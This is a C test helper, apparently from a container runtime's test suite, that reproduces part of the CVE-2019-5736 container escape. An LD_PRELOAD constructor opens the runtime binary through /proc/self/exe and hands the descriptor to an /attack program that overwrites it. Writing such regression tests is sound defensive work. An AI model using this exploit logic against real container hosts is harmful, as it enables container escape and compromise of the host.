/* SPDX-License-Identifier: Apache-2.0 */
/* CVE-2019-5736 attacker (BinaryCloneTests), LD_PRELOADed into the runtime binary that a container runs as the
 * interpreter of "#!/proc/self/exe". EVIL_MODE=write: open /proc/self/exe read-only, then exec a long
 * sleep while a child execs /attack with the fd (so nothing in the container executes the binary any
 * more): /attack waits until no one executes it and writes it. The outcome goes to EVIL_RESULT.
 * EVIL_MODE=hold: sleep 2 s first (an exec'd runtime a waiting process can catch). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void report(const char *out, const char *what, int err, const char *target)
{
	char tmp[4096];
	snprintf(tmp, sizeof tmp, "%s.tmp", out);
	FILE *f = fopen(tmp, "w");
	if (f == NULL)
		return;
	fprintf(f, "%s %s %s\n", what, err ? strerrorname_np(err) : "OK", target);
	fclose(f);
	rename(tmp, out);
}

__attribute__((constructor)) static void evil(void)
{
	const char *mode = getenv("EVIL_MODE");
	const char *out = getenv("EVIL_RESULT");
	char path[64], target[8] = "?";
	int fd;

	if (mode == NULL)
		return;
	if (strcmp(mode, "hold") == 0) {
		sleep(2);
		return;
	}
	if (strcmp(mode, "write") != 0 || out == NULL)
		return;
	unsetenv("LD_PRELOAD");
	fd = open("/proc/self/exe", O_RDONLY);
	if (fd < 0) {
		report(out, "open-ro", errno, target);
		_exit(1);
	}
	snprintf(path, sizeof path, "%d", fd);
	/* neither process may go on executing the binary: the child hands the fd to the writer */
	if (fork() == 0) {
		execl("/attack", "attack", "fd", path, out, (char *)NULL);
		report(out, "exec-attack", errno, target);
		_exit(127);
	}
	execl("/bin/sleep", "sleep", "3600", (char *)NULL);
	_exit(127);
}
